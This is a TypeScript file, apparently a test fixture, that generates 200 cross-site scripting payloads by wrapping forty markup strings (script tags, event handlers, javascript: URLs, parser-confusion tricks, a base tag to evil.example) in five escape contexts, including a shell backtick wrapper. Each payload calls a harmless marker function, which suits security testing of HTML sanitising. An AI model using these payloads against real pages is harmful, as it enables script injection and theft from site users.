/** What would run in a page that took text for markup. Each says so by calling `ran()`. */
const RUN = 'ran()'

const MARKUP: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"//`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><a xlink:href="javascript:${RUN}"><rect width=99 height=99 /></a>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=/x onerror=${RUN}>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<dialog open onclose=${RUN}>`,
  `<x onclick=${RUN} id=x tabindex=1 onfocus=${RUN}>#x`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'-${RUN}-'`,
  `</textarea><script>${RUN}</script>`,
  `</title><img src=x onerror=${RUN}>`,
]

/** Ways out of the place where text stands. */
const AROUND: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"'>${payload}`,
  (payload) => `--></style></script>${payload}<!--`,
  (payload) => `echo \`${payload}\``,
  (payload) => `]]>\u2028${payload}\u200b`,
]

/** Two hundred of them. */
export const PAYLOADS: readonly string[] = AROUND.flatMap((around) => MARKUP.map(around))
